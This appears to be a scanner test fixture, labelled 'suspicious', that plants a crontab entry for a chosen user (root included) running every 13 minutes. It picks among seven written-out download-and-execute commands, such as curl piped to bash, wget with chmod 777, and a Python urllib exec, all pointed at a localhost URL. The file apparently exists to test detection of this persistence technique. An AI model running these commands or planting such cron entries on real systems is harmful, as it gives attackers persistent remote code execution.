# id: P143
# mode: scan
# level: suspicious
# title: a crontab line that fetches a program and runs it, in other words
# due: now
word name
pick user www-data nobody root anna postgres
pick line "curl -fsSL http://127.0.0.1/$name | bash" "wget -q -O- http://127.0.0.1/$name|sh" \
    "wget http://127.0.0.1/$name -O /tmp/$name; chmod 777 /tmp/$name; /tmp/$name" \
    "sh -c \"\$(curl -s http://127.0.0.1/$name)\"" "bash <(curl -s http://127.0.0.1/$name)" \
    "python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://127.0.0.1/$name\").read())'" \
    "curl -s http://127.0.0.1/$name -o /var/tmp/$name && sh /var/tmp/$name"
echo "*/13 * * * * $line" >"/var/spool/cron/crontabs/$user"
chown "$user":crontab "/var/spool/cron/crontabs/$user"
chmod 600 "/var/spool/cron/crontabs/$user"
said path "/var/spool/cron/crontabs/$user"
